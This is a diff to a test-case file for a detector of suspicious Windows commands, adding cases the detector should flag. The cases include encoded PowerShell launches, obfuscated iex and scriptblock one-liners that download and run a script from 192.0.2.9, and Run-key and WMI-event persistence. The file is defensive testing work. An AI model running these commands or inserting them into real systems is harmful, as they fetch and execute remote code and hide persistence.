@@ -2,7 +2,12 @@
 
 export const WINDOWS_CASES: Record<string, { raise: string[]; miss: string[] }> = {
   'encoded-powershell': {
-    raise: ['powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'start x -enc SQBFAFgAIAAoAE4AZQB3AC0A'],
+    raise: [
+      'powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A',
+      'start x -enc SQBFAFgAIAAoAE4AZQB3AC0A',
+      'powershell \u2013e SQBFAFgAIAAoAE4AZQB3AC0A',
+      `Start-Process powershell -ArgumentList '-enc','SQBFAFgAIAAoAE4AZQB3AC0A'`,
+    ],
     miss: ['grep -e averylongpatternindeed file', 'powershell -ExecutionPolicy Bypass -File a.ps1'],
   },
   iex: {
@@ -10,6 +15,8 @@ export const WINDOWS_CASES: Record<string, { raise: string[]; miss: string[] }> 
       'iex (iwr http://192.0.2.9/a.ps1)',
       'Invoke-Expression $command',
       '[Reflection.Assembly]::Load($b)',
+      "&('i'+'ex') (irm http://192.0.2.9/a.ps1)",
+      '[scriptblock]::Create((irm http://192.0.2.9/a.ps1)).Invoke()',
     ],
     miss: ['Install-WindowsFeature Web-Server', 'Invoke-WebRequest http://192.0.2.9/a -OutFile a'],
   },
@@ -34,7 +41,10 @@ export const WINDOWS_CASES: Record<string, { raise: string[]; miss: string[] }> 
     miss: ['Get-Service a', 'sc query agent', 'Restart-Service W3SVC'],
   },
   'run-key': {
-    raise: ['reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b'],
+    raise: [
+      'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b',
+      'Register-WmiEvent -Query $q -Action { C:\\a.ps1 }',
+    ],
     miss: [
       'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies /v a',
       'reg query HKLM\\Software',
